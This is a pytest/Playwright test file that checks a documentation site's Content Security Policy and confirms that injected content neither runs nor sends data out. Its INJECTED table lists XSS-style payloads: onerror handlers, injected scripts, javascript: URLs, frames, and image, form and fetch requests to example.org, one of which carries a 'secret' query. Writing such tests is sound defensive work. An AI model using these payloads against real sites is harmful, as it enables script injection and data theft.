"""The content security policy: every page has it, and nothing foreign gets past it.

That pages live by it is seen in every test of a page: `new_page` fails on a violation.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.site.conftest import unwatched_site

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
NOTE_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  violations.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`);
});
"""


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("violations")
    return found


def test_all_pages_have_the_same_policy_before_any_script(site_dir: Path) -> None:
    found = set()
    for path in site_dir.rglob("*.html"):
        text = path.read_text("utf-8")
        metas = list(POLICY.finditer(text))
        assert len(metas) == 1, path
        assert metas[0].start() < text.index("<script"), path
        found.add(metas[0][1])
    assert len(found) == 1
    directives = dict(part.split(" ", 1) for part in found.pop().split("; "))
    assert directives["default-src"] == "'none'"
    assert "'unsafe-inline'" not in directives["script-src"]
    assert "'unsafe-eval'" not in directives["script-src"]
    sources = {source for sources in directives.values() for source in sources.split()}
    assert {source for source in sources if not source.startswith("'")} == {"data:", "blob:"}


def test_figures_search_and_playground_work_under_it_across_pages(page: Page, base_url: str) -> None:
    page.goto(base_url)
    page.wait_for_load_state("networkidle")  # the theme has read the sitemap then
    page.evaluate("window.stayed = true")
    figure = page.locator("vg-player[ready]").first
    figure.get_by_role("button", name="Next step").click()
    page.locator(".md-tabs").get_by_role("link", name="Playground", exact=True).click()
    playground = page.locator("vg-playground[ready]")
    playground.locator('[data-part="run"]').click()
    expect(playground.locator('[data-part="status"]')).to_contain_text("Finished", timeout=60_000)
    expect(page.locator("vg-player svg.vg-graph")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("textbox", name="Search").focus()
    page.keyboard.type("gradient")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    assert page.evaluate("window.stayed") is True


INJECTED = {
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')",
    "script": "document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked = 1' }))",
    "address": "location.href = 'javascript:window.hacked = 1'",
    "foreign script": """document.body.append(Object.assign(document.createElement('script'),
        { src: 'https://example.org/x.js' }))""",
    "data script": """document.body.append(Object.assign(document.createElement('script'),
        { src: 'data:text/javascript,window.hacked = 1' }))""",
    "frame": """document.body.append(Object.assign(document.createElement('iframe'),
        { srcdoc: '<script>parent.hacked = 1</script>' }))""",
    "foreign frame": """document.body.append(Object.assign(document.createElement('iframe'),
        { src: 'https://example.org/' }))""",
    "picture": "new Image().src = 'https://example.org/?secret'",
    "form": """document.body.append(Object.assign(document.createElement('form'), { action: 'https://example.org/' }));
        document.forms[document.forms.length - 1].submit()""",
    "fetch": "fetch('https://example.org/').catch(() => 0)",
    "style": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=https://example.org/x.css>')",
}


# In a task of its own: what Playwright evaluates is above the policy, and what it calls too.
MAKE_CODE = """() => new Promise((resolve) => setTimeout(() => {
  try { resolve(new Function("return 1")()); } catch (error) { resolve(error.name); }
}))"""


@pytest.mark.parametrize("address", ["", "playground/"])
def test_what_is_put_into_a_page_neither_runs_nor_leaves(browser: Browser, base_url: str, address: str) -> None:
    left: list[str] = []

    def note(route: Route) -> None:  # what the policy stops does not come as far as here
        left.append(route.request.url)
        route.abort()

    with unwatched_site(browser, base_url) as page:
        page.context.route("https://example.org/**", note)
        page.add_init_script(NOTE_VIOLATIONS)
        for name, attack in INJECTED.items():
            page.goto(base_url + address, wait_until="domcontentloaded")
            page.evaluate(f"() => {{ {attack}; }}")
            if name not in ("frame", "form"):  # which are told in the frame, or on the console only
                page.wait_for_function("() => violations.length > 0")
            assert page.evaluate("window.hacked") is None, name
            assert page.url == base_url + address, name
        assert page.evaluate(MAKE_CODE) == "EvalError"
    assert left == []


# --- other sites built with the same hook -----------------------------------------------------------------------------


@pytest.fixture
def project(tmp_path: Path, root: Path) -> Path:
    """A small site with a notebook whose output is a figure in a frame."""
    import vizgrad as vg
    from vizgrad.player.html import notebook

    with vg.record() as recorded:
        a = vg.TensorNode(2.0)
        (a * a).backward()
    cells = [
        {"cell_type": "markdown", "id": "m", "metadata": {}, "source": "# A notebook\n\nwith $x^2$ in it"},
        {
            "cell_type": "code",
            "id": "c",
            "execution_count": 1,
            "metadata": {},
            "source": "trace",
            "outputs": [
                {
                    "output_type": "execute_result",
                    "execution_count": 1,
                    "metadata": {},
                    "data": {"text/html": notebook(recorded), "text/plain": "a figure"},
                }
            ],
        },
    ]
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.ipynb").write_text(
        json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), "utf-8"
    )
    (docs / "page.md").write_text("# A page\n", "utf-8")
    shutil.copy(root / "docs/_hooks/policy.py", tmp_path)
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: small\nsite_url: ''\ntheme: {name: material, font: false}\nhooks: [policy.py]\n"
        "plugins: [{mkdocs-jupyter: {execute: false, include_requirejs: false}}]\n",
        "utf-8",
    )
    return tmp_path


def mkdocs(*arguments: str) -> list[str]:
    return [sys.executable, "-W", "ignore", "-m", "mkdocs", *arguments]


QUIET = os.environ | {"NO_MKDOCS_2_WARNING": "1"}


def test_a_notebook_page_and_the_figures_in_its_frames_live_by_it(project: Path, browser: Browser) -> None:
    subprocess.run(mkdocs("build", "-q"), cwd=project, env=QUIET, check=True)
    said: list[str] = []
    handler = partial(QuietHandler, directory=str(project / "site"))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server, browser.new_context() as context:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        page = context.new_page()
        page.add_init_script(NOTE_VIOLATIONS)
        page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
        page.goto(f"http://127.0.0.1:{server.server_port}/")
        figure = page.frame_locator("iframe").locator("vg-player[ready]")
        figure.get_by_role("button", name="Next step").click()
        expect(figure.locator("svg.vg-graph")).to_be_visible()
        assert violations(page) == []
        server.shutdown()
    assert said == []


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def served(project: Path, unused_port: int) -> Iterator[str]:
    """The small site under `mkdocs serve`."""
    server = subprocess.Popen(
        mkdocs("serve", "-q", "-a", f"127.0.0.1:{unused_port}"), cwd=project, env=QUIET, stderr=subprocess.DEVNULL
    )
    yield f"http://127.0.0.1:{unused_port}/page/"
    server.terminate()
    server.wait()


@pytest.fixture
def unused_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def test_a_page_that_changes_is_loaded_again_while_it_is_served(served: str, project: Path, browser: Browser) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        page.add_init_script(NOTE_VIOLATIONS)
        open_when_there(page, served)
        expect(page.locator("h1")).to_contain_text("A page")
        (project / "docs/page.md").write_text("# Another page\n", "utf-8")
        expect(page.locator("h1")).to_contain_text("Another page", timeout=30_000)
        assert violations(page) == []


def open_when_there(page: Page, address: str) -> None:
    for _ in range(100):
        try:
            page.goto(address)
            return
        except Exception:
            page.wait_for_timeout(200)
    raise AssertionError(f"{address} was never served")
